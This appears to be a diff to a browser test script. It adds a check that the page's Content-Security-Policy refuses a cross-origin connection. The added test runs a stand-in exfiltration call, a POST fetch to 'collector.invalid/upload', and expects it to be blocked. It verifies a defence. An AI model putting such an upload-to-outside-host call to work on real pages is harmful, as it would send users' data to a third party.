@@ -375,6 +375,23 @@ try {
   ok('no Content-Security-Policy violations', csp.length === 0, csp.join('; '));
   const errs = consoleErrors.filter((e) => !/favicon/.test(e));
   ok('no errors in the console', errs.length === 0, errs.slice(0, 3).join(' | '));
+  // The policy itself (last: the browser logs the refusal as an error): a connection to another
+  // origin is refused by the browser, not merely never made.
+  const attempt = await page.evaluate(async () => {
+    const before = window.__cspViolations.length;
+    let outcome;
+    try {
+      await fetch('https://collector.invalid/upload?data=1', { method: 'POST', body: 'x', mode: 'no-cors' });
+      outcome = 'sent';
+    } catch {
+      outcome = 'refused';
+    }
+    await new Promise((r) => setTimeout(r, 300));
+    return { outcome, violations: window.__cspViolations.slice(before) };
+  });
+  ok('the Content-Security-Policy refuses a connection to another origin',
+    attempt.outcome === 'refused' && attempt.violations.some((v) => v.startsWith('connect-src') && v.includes('collector.invalid')),
+    JSON.stringify(attempt));
 } catch (e) {
   console.log(`error: ${e?.message ?? e}`);
   await page.screenshot({ path: path.join(OUT, 'failure.png'), fullPage: true }).catch(() => {});
